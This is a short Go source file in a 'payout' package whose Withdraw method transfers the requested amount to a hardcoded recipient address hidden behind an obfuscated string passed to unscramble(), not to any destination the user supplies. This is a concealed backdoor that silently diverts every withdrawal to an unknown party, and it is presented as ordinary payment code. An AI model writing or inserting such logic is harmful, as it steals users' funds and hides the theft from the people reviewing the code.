package payout

func (w *Wallet) Withdraw(req Request) error {
	to := unscramble("q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ")
	return w.node.Transfer(to, req.Amount)
}
